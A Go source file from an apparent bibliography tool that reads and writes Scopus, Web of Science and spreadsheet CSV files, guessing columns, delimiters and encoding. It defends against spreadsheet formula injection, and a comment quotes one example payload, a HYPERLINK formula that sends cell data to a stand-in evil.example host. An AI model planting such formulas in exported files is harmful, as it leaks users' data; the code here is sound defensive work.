// Package csvfile reads and writes bibliographic CSV with a header row:
// Scopus and Web of Science exports, spreadsheets researchers keep by
// hand, and Quarry's own CSV export. Columns are mapped to record fields
// by guessing from common header names (Guess); a caller can override the
// guess, because every tool and every spreadsheet names columns its own way.
//
// The delimiter (comma, semicolon or tab) is guessed from the header line.
// Comma- and semicolon-separated files are split by quotedReader: strict
// inside quoted cells, so a stray or unclosed quote makes its one row a
// Problem (on the line where the row starts) and reading resumes on the
// next line instead of taking the rest of the file into one cell, and
// lenient about a quote inside an unquoted cell. Tab-separated files (Web
// of Science) are split line by line without quote handling, because Web
// of Science does not quote and a title that starts with a quotation mark
// is text there.
// Cells that are not valid UTF-8 are taken as Windows-1252 (the superset of
// Latin-1 that European Excel writes), byte by byte where the UTF-8 is
// invalid, so "café" saved by Excel imports as "café".
package csvfile

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"unicode/utf8"

	"golang.org/x/text/encoding/charmap"

	"quarry/internal/biblio"
	"quarry/internal/fault"
)

// Fields are the record fields a column can be mapped to, in the order of
// Quarry's own CSV export, so a form can list them and a caller can name
// them in an override.
var Fields = []string{
	"title", "authors", "year", "venue", "volume", "issue", "pages", "abstract",
	"doi", "pmid", "arxiv_id", "url", "keywords", "type", "mark", "note",
	biblio.ExtraPublisher, biblio.ExtraAddress, biblio.ExtraISBN, biblio.ExtraISSN,
	biblio.ExtraEditor, biblio.ExtraEdition, biblio.ExtraSeries, biblio.ExtraLanguage,
}

// extraFields are the Fields kept in Record.Extra under their own names.
var extraFields = Fields[len(Fields)-8:]

// headerNames lists, per field, the header names (lower case, single
// spaces) that tools use for it, most specific first: full author names
// beat abbreviated ones when a file has both (Scopus, Web of Science).
// Web of Science's "ID" (Keywords Plus) and Quarry's "id" are not mapped.
var headerNames = map[string][]string{
	"title":    {"title", "article title", "document title", "ti", "primary title"},
	"authors":  {"author full names", "af", "authors", "author", "au", "author(s)"},
	"year":     {"year", "publication year", "py", "pubyear", "pub year", "year published"},
	"venue":    {"venue", "journal", "source title", "publication title", "so", "container", "container-title", "journal title", "secondary title"},
	"volume":   {"volume", "vl", "vol"},
	"issue":    {"issue", "number", "is", "no"},
	"pages":    {"pages", "page", "page start", "bp", "start page"},
	"abstract": {"abstract", "ab", "abstract note"},
	"doi":      {"doi", "di"},
	"pmid":     {"pmid", "pubmed id", "pm", "pubmed"},
	"arxiv_id": {"arxiv_id", "arxiv id", "arxiv", "eprint"},
	"url":      {"url", "link", "links"},
	"keywords": {"keywords", "author keywords", "de", "manual tags", "keyword"},
	"type":     {"type", "document type", "publication type", "dt", "item type", "entrytype"},
	"mark":     {"mark"},
	"note":     {"note", "notes"},

	biblio.ExtraPublisher: {"publisher", "pu"},
	biblio.ExtraAddress:   {"address", "place", "place published", "publisher place", "publisher city", "pi"},
	biblio.ExtraISBN:      {"isbn", "bn"},
	biblio.ExtraISSN:      {"issn", "sn"},
	biblio.ExtraEditor:    {"editor", "editors", "ed", "be"},
	biblio.ExtraEdition:   {"edition"},
	biblio.ExtraSeries:    {"series", "series title", "se"},
	biblio.ExtraLanguage:  {"language", "language of original document", "la"},
}

// pageEnds names the end-page column that goes with a start-page column
// (Scopus, Web of Science), so pages reads "start-end".
var pageEnds = map[string]string{"page start": "page end", "bp": "ep", "start page": "end page"}

func normHeader(h string) string {
	h = strings.TrimPrefix(h, "\ufeff")
	return strings.ToLower(strings.Join(strings.Fields(h), " "))
}

// Guess maps each field it can to a header of the file (as written
// there), for the reader's default and for a form that lets a person
// correct it. Fields with no plausible column are absent.
func Guess(header []string) map[string]string {
	norm := make([]string, len(header))
	for i, h := range header {
		norm[i] = normHeader(h)
	}
	out := map[string]string{}
	used := map[int]bool{}
	for _, field := range Fields {
		for _, name := range headerNames[field] {
			if i := slices.Index(norm, name); i >= 0 && !used[i] {
				out[field] = header[i]
				used[i] = true
				break
			}
		}
	}
	return out
}

// Reader streams the rows of one CSV file as records.
type Reader struct {
	src       io.Reader
	overrides map[string]string
	rows      rowReader
	// col maps a field to its column index; pageEnd is the end-page
	// column (-1 if none).
	col     map[string]int
	pageEnd int
	// scopusIDs says the authors column is Scopus's "Author full names",
	// whose names end in "(author ID)".
	scopusIDs bool
	started   bool
	err       error
	lim       biblio.Limits
}

// NewReader reads CSV from r, mapping columns by Guess.
func NewReader(r io.Reader) *Reader { return NewReaderWithColumns(r, nil) }

// NewReaderWithColumns reads CSV from r with columns overriding the guess:
// it maps a field name (one of Fields) to a header of the file; an empty
// header name unmaps the field. A bad override, or a file with no title
// column, makes the first Next return an fault.EInvalid error that lists
// the headers found, since no row of such a file can be read as meant.
func NewReaderWithColumns(r io.Reader, columns map[string]string) *Reader {
	return &Reader{src: r, overrides: columns, pageEnd: -1, lim: biblio.Limits{}.OrDefault()}
}

// WithLimits sets the longest line and row kept (zero fields: the
// defaults); call it before the first Next. A longer line is a Problem
// record, discarded as it is read; so is a quoted cell running on past
// the row limit.
func (r *Reader) WithLimits(l biblio.Limits) *Reader {
	r.lim = l.OrDefault()
	return r
}

// Next returns the next row as a record, or io.EOF after the last one.
// Rows whose cells are all empty (spreadsheets end with them) are skipped.
func (r *Reader) Next() (biblio.Record, error) {
	if !r.started {
		r.started = true
		r.err = r.start()
	}
	if r.err != nil {
		return biblio.Record{}, r.err
	}
	for {
		row, problem, err := r.rows.Read()
		switch {
		case errors.Is(err, io.EOF):
			return biblio.Record{}, io.EOF
		case err != nil:
			return biblio.Record{}, fmt.Errorf("csvfile: read: %w", err)
		case problem != "":
			return biblio.Record{Line: r.rows.line(), Problem: problem}, nil
		}
		if !slices.ContainsFunc(row, func(c string) bool { return strings.TrimSpace(c) != "" }) {
			continue
		}
		line := r.rows.line()
		rec := r.mapRow(row)
		rec.Line = line
		return rec, nil
	}
}

// start reads the header, guesses the delimiter and maps the columns.
func (r *Reader) start() error {
	br := bufio.NewReaderSize(r.src, 1<<16)
	if bom, _ := br.Peek(3); bytes.Equal(bom, []byte("\xef\xbb\xbf")) {
		_, _ = br.Discard(3)
	}
	head, err := br.Peek(br.Size())
	if err != nil && !errors.Is(err, io.EOF) && !errors.Is(err, bufio.ErrBufferFull) {
		return fmt.Errorf("csvfile: read: %w", err)
	}
	if delim := guessDelimiter(head); delim == '\t' {
		r.rows = &tabReader{br: br, max: r.lim.MaxLine}
	} else {
		r.rows = newQuotedReader(br, delim, r.lim)
	}
	header, problem, err := r.rows.Read()
	if errors.Is(err, io.EOF) {
		return io.EOF
	}
	if err != nil {
		return fmt.Errorf("csvfile: read header: %w", err)
	}
	if problem != "" {
		return fault.Errorf(fault.EInvalid, "cannot read the CSV header on line %d: %s", r.rows.line(), strings.TrimPrefix(problem, "malformed CSV row: "))
	}
	for i := range header {
		header[i] = strings.TrimSpace(strings.TrimPrefix(fixEncoding(header[i]), "\ufeff"))
	}
	mapping := Guess(header)
	fe := fault.FieldErrors{}
	for field, name := range r.overrides {
		switch {
		case !slices.Contains(Fields, field):
			fe.Add(field, fmt.Sprintf("unknown field %q (fields: %s)", field, strings.Join(Fields, ", ")))
		case strings.TrimSpace(name) == "":
			delete(mapping, field)
		case findHeader(header, name) < 0:
			fe.Add(field, fmt.Sprintf("no column %q in the file", name))
		default:
			mapping[field] = header[findHeader(header, name)]
		}
	}
	if _, ok := mapping["title"]; !ok {
		fe.Add("title", "no title column")
	}
	if len(fe) > 0 {
		return fe.Err("cannot map the CSV columns; headers found: " + strings.Join(header, ", "))
	}
	r.col = map[string]int{}
	for field, name := range mapping {
		r.col[field] = findHeader(header, name)
	}
	if i, ok := r.col["authors"]; ok {
		r.scopusIDs = normHeader(header[i]) == "author full names"
	}
	if i, ok := r.col["pages"]; ok {
		if end, ok := pageEnds[normHeader(header[i])]; ok {
			r.pageEnd = slices.Index(normAll(header), end)
		}
	}
	return nil
}

func normAll(header []string) []string {
	out := make([]string, len(header))
	for i, h := range header {
		out[i] = normHeader(h)
	}
	return out
}

// findHeader finds name among the headers, exactly or else ignoring case
// and spacing.
func findHeader(header []string, name string) int {
	if i := slices.Index(header, name); i >= 0 {
		return i
	}
	return slices.Index(normAll(header), normHeader(name))
}

// guessDelimiter picks the most frequent of comma, semicolon and tab on
// the header line, outside quotes; comma when there is none.
func guessDelimiter(head []byte) rune {
	if i := bytes.IndexByte(head, '\n'); i >= 0 {
		head = head[:i]
	}
	counts := map[byte]int{}
	quoted := false
	for _, c := range head {
		switch {
		case c == '"':
			quoted = !quoted
		case !quoted && (c == ',' || c == ';' || c == '\t'):
			counts[c]++
		}
	}
	best := byte(',')
	for _, c := range []byte{';', '\t'} {
		if counts[c] > counts[best] {
			best = c
		}
	}
	return rune(best)
}

// fixEncoding returns s with every byte that is not part of valid UTF-8
// decoded as Windows-1252.
func fixEncoding(s string) string {
	if utf8.ValidString(s) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			r = charmap.Windows1252.DecodeByte(s[i])
		}
		b.WriteRune(r)
		i += size
	}
	return b.String()
}

var (
	yearRE     = regexp.MustCompile(`\d{4}`)
	authorIDRE = regexp.MustCompile(`(\s+\(\d{6,}\))+\s*$`)
	initialsRE = regexp.MustCompile(`^(\p{Lu}\.?-?)+$`)
)

// mapRow maps one row onto a finished record.
func (r *Reader) mapRow(row []string) biblio.Record {
	get := func(field string) string {
		i, ok := r.col[field]
		if !ok || i >= len(row) {
			return ""
		}
		return unprotect(fixEncoding(row[i]))
	}
	var rec biblio.Record
	p := &rec.Paper
	p.Title = get("title")
	p.Authors = splitAuthors(get("authors"), r.scopusIDs)
	// The cell gives each name's split ("Wong Kee Song, Louis M."), which
	// the display form alone would lose.
	for _, a := range p.Authors {
		rec.Names = append(rec.Names, biblio.ParseName(a))
	}
	extra := map[string]string{}
	for _, f := range extraFields {
		extra[f] = strings.TrimSpace(get(f))
	}
	biblio.SetExtra(&rec, extra)
	year := get("year")
	p.Year = parseYear(year)
	p.Venue = get("venue")
	p.Volume = get("volume")
	p.Issue = get("issue")
	p.Pages = get("pages")
	if r.pageEnd >= 0 && r.pageEnd < len(row) {
		if end := strings.TrimSpace(unprotect(fixEncoding(row[r.pageEnd]))); end != "" && strings.TrimSpace(p.Pages) != "" {
			p.Pages = strings.TrimSpace(p.Pages) + "-" + end
		}
	}
	p.Abstract = get("abstract")
	p.DOI = get("doi")
	p.PMID = get("pmid")
	p.ArxivID = get("arxiv_id")
	p.URL = get("url")
	rec.Keywords = append(rec.Keywords, strings.Split(get("keywords"), ";")...)
	rec.Type = mapType(get("type"))
	rec.Mark = mapMark(get("mark"))
	rec.Note = get("note")
	if p.Year == 0 {
		if w := biblio.NotAYear(year); w != "" {
			rec.Warnings = append(rec.Warnings, w)
		}
	}
	biblio.Finish(&rec)
	rec.Names = biblio.NamesToKeep(rec) // nil where guessing does as well
	return rec
}

// parseYear takes the first four-digit number of a year or date cell
// ("2020", "2020-05-01", "May 2020"), or the cell itself if it is a number.
func parseYear(s string) int {
	s = strings.TrimSpace(s)
	if y := yearRE.FindString(s); y != "" {
		s = y
	}
	n, _ := strconv.Atoi(s)
	return n
}

// splitAuthors splits an author cell: on ";" (Scopus "Smith J.; Doe A.",
// Web of Science "Smith, John; Doe, Jane", Quarry's export), else on
// " and " (BibTeX habit). With scopusIDs the "(author ID)" after each name
// is dropped. "Smith J." (surname, initials) is read as "Smith, J.".
func splitAuthors(s string, scopusIDs bool) []string {
	sep := ";"
	if !strings.Contains(s, ";") {
		sep = " and "
	}
	var out []string
	for _, a := range strings.Split(s, sep) {
		if scopusIDs {
			a = authorIDRE.ReplaceAllString(a, "")
		}
		a = strings.TrimSpace(a)
		if words := strings.Fields(a); !strings.Contains(a, ",") && len(words) > 1 && initialsRE.MatchString(words[len(words)-1]) {
			a = strings.Join(words[:len(words)-1], " ") + ", " + words[len(words)-1]
		}
		if a != "" {
			out = append(out, a)
		}
	}
	return out
}

// mapType reads a type column: Quarry's own type names, Scopus and Web of
// Science document types ("Conference Paper", "Proceedings Paper", "Book
// Chapter", "Review"), Zotero item types.
func mapType(s string) string {
	t := strings.ToLower(strings.TrimSpace(s))
	switch {
	case t == "":
		return ""
	case strings.Contains(t, "chapter") || strings.Contains(t, "section"):
		return biblio.Chapter
	case strings.Contains(t, "conference") || strings.Contains(t, "proceedings"):
		return biblio.Conference
	case strings.Contains(t, "preprint"):
		return biblio.Preprint
	case strings.Contains(t, "book"):
		return biblio.Book
	case strings.Contains(t, "thesis") || strings.Contains(t, "dissertation"):
		return biblio.Thesis
	case strings.Contains(t, "report"):
		return biblio.Report
	case strings.Contains(t, "article") || strings.Contains(t, "review") || strings.Contains(t, "journal") ||
		strings.Contains(t, "letter") || strings.Contains(t, "editorial"):
		return biblio.Article
	}
	return biblio.Misc
}

// mapMark reads a mark column, accepting the words screening spreadsheets
// use; anything else is no mark.
func mapMark(s string) string {
	switch strings.ToLower(strings.TrimSpace(s)) {
	case biblio.Relevant, "include", "included", "yes":
		return biblio.Relevant
	case biblio.Irrelevant, "exclude", "excluded", "no":
		return biblio.Irrelevant
	}
	return ""
}

// Writer writes Quarry's CSV export: a header of "id" and Fields, one row
// per record, which the reader maps back without an override.
//
// CSV exports are opened in spreadsheets, which run a cell that starts
// with = + - or @ (or a tab or carriage return before one) as a formula: a
// title like =HYPERLINK("http://evil.example/?x="&A1,"click") would leak
// the sheet when clicked. So every cell that starts with zero or more
// apostrophes and then one of those characters is written with one more
// apostrophe in front, which spreadsheets show as text; the reader takes
// exactly one leading apostrophe off a cell that starts with one or more
// apostrophes and then one of those characters:
//
//	value          cell written    read back
//	=1+1           '=1+1           =1+1
//	'=x            ''=x            '=x
//	'Tis a title   'Tis a title    'Tis a title
//
// Any other cell, one that starts with an apostrophe before anything else
// included, is written and read as it is, so every value round-trips and a
// file from another tool loses an apostrophe only where this rule put one.
type Writer struct {
	cw      *csv.Writer
	started bool
}

// NewWriter writes CSV to w; Close flushes. No byte-order mark is written.
func NewWriter(w io.Writer) *Writer { return &Writer{cw: csv.NewWriter(w)} }

func (w *Writer) header() error {
	if w.started {
		return nil
	}
	w.started = true
	return w.cw.Write(append([]string{"id"}, Fields...))
}

// Write writes rec as one row: authors as "Last, First; Last, First",
// keywords joined by "; ". A keyword containing ";" cannot be told apart
// from two keywords when read back.
func (w *Writer) Write(rec biblio.Record) error {
	if err := w.header(); err != nil {
		return fmt.Errorf("csvfile: write: %w", err)
	}
	p := rec.Paper
	names := biblio.NamesOf(rec)
	authors := make([]string, len(names))
	for i, n := range names {
		authors[i] = n.Inverted()
		switch {
		case n.First == "" && n.Suffix != "":
			// Inverted gives "Last, Suffix", which reads back as a first
			// name; the empty middle part keeps the suffix a suffix.
			authors[i] = n.Last + ", , " + n.Suffix
		case n.First == "" && n.Suffix == "" && biblio.ParseName(authors[i]) != n:
			// A name not to be split ("National Nurses United"): a
			// trailing comma says it is all family name.
			authors[i] += ","
		}
	}
	cell := strings.Join(authors, "; ")
	if len(authors) == 1 && strings.Contains(cell, " and ") {
		cell += ";" // so the reader does not split "Research and Development Corp." on " and "
	}
	year := ""
	if p.Year != 0 {
		year = strconv.Itoa(p.Year)
	}
	row := []string{
		p.ID, p.Title, cell, year, p.Venue, p.Volume, p.Issue, p.Pages, p.Abstract,
		p.DOI, p.PMID, p.ArxivID, p.URL, strings.Join(rec.Keywords, "; "), rec.Type, rec.Mark, rec.Note,
	}
	extra := biblio.ExtraFields(rec)
	for _, f := range extraFields {
		row = append(row, extra[f])
	}
	for i := range row {
		row[i] = protect(row[i])
	}
	if err := w.cw.Write(row); err != nil {
		return fmt.Errorf("csvfile: write: %w", err)
	}
	return nil
}

// Close writes the header if no record was written, and flushes; it does
// not close the underlying writer.
func (w *Writer) Close() error {
	if err := w.header(); err != nil {
		return fmt.Errorf("csvfile: write: %w", err)
	}
	w.cw.Flush()
	if err := w.cw.Error(); err != nil {
		return fmt.Errorf("csvfile: flush: %w", err)
	}
	return nil
}

// formulaStart reports whether s starts with zero or more apostrophes and
// then a character that makes a spreadsheet read the cell as a formula
// (see Writer).
func formulaStart(s string) bool {
	s = strings.TrimLeft(s, "'")
	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
}

// protect puts an apostrophe before a cell a spreadsheet would run as a
// formula (see Writer).
func protect(s string) string {
	if formulaStart(s) {
		return "'" + s
	}
	return s
}

// SheetWriter is a csv.Writer that defuses formulas in every cell the way
// Writer does, for the app's other CSV outputs (the search-strategy report,
// the dedup merge report): they carry titles and queries from outside and
// are opened in spreadsheets too.
type SheetWriter struct{ *csv.Writer }

// NewSheetWriter returns a SheetWriter on w.
func NewSheetWriter(w io.Writer) SheetWriter { return SheetWriter{csv.NewWriter(w)} }

// Write writes one row, each cell protected.
func (s SheetWriter) Write(row []string) error {
	out := make([]string, len(row))
	for i, c := range row {
		out[i] = protect(c)
	}
	return s.Writer.Write(out)
}

// unprotect takes off the apostrophe protect put on (see Writer).
func unprotect(s string) string {
	if strings.HasPrefix(s, "'") && formulaStart(s) {
		return s[1:]
	}
	return s
}
